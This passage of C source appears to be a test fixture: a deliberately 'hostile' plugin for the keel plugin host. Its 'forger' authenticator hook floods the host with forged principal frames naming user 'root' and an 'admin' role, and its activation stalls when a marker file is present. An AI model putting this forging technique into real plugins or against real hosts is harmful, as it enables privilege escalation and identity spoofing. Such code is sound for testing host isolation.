    put32(f + n, 4); memcpy(f + n + 4, "root", 4); n += 8;
    put32(f + n, 0); n += 4;                             /* display name */
    put32(f + n, 0); n += 4;                             /* tenant */
    put32(f + n, FORGE_AUTH); n += 4;
    for (int i = 0; i < FORGE_AUTH; i++) {
        char role[16];
        int l = i == 0 ? snprintf(role, sizeof role, "admin") : snprintf(role, sizeof role, "r%d", i);
        put32(f + n, (uint32_t)l); memcpy(f + n + 4, role, (size_t)l); n += 4 + (size_t)l;
    }
    put32(f + n, 4); memcpy(f + n + 4, "keel", 4); n += 8;
    forge_send(f, n);
}

static keel_status forger(void *user_data, const keel_http_request *req, keel_principal_builder *out) {
    (void)user_data; (void)req; (void)out;
    /* Downwards: the call this hook serves is among the last read, so no forged frame is left to meet the host's next
     * call (the handler's), which an answer of the wrong kind would kill the worker for. */
    for (uint64_t i = 400; i >= 1; i--) forge_principal(i);
    return KEEL_OK;
}
#endif

static keel_status activate(const keel_host *host, keel_ctx *ctx) {
#ifdef FORGE_AUTH
    const keel_host_auth *auth = host->get_service(ctx, keel_cstr(KEEL_SERVICE_AUTH));
    keel_authenticator hook = { sizeof hook, KEEL_STR("forger"), forger, NULL };
    if (!auth || auth->register_authenticator(ctx, &hook) != KEEL_OK) return KEEL_ERR_UNSUPPORTED;
#endif
    Dl_info self;
    if (dladdr((void *)activate, &self) && self.dli_fname) {
        char marker[1024];
        const char *slash = strrchr(self.dli_fname, '/');
        int folder = slash ? (int)(slash - self.dli_fname) : 0;
        snprintf(marker, sizeof marker, "%.*s/block-activate", folder, self.dli_fname);
        if (access(marker, F_OK) == 0) sleep(30);
    }
    const keel_host_http *http = host->get_service(ctx, keel_cstr(KEEL_SERVICE_HTTP));
    if (!http) return KEEL_ERR_UNSUPPORTED;
    keel_route get = { sizeof get, KEEL_STR("GET"), KEEL_STR("/items/:id"), item, NULL };
    keel_status s = http->register_route(ctx, &get);
    if (s != KEEL_OK) return s;
    keel_route post = { sizeof post, KEEL_STR("POST"), KEEL_STR("/items/:id"), item, NULL };
    return http->register_route(ctx, &post);
}

static const keel_plugin descriptor = {
    .struct_size = sizeof(keel_plugin),
    .abi_version = { KEEL_ABI_VERSION_MAJOR, KEEL_ABI_VERSION_MINOR, KEEL_ABI_VERSION_PATCH },
    .id = KEEL_STR("hostile"),
    .version = KEEL_STR("1.0.0"),
    .activate = activate,
};

KEEL_PLUGIN_ENTRY(descriptor)
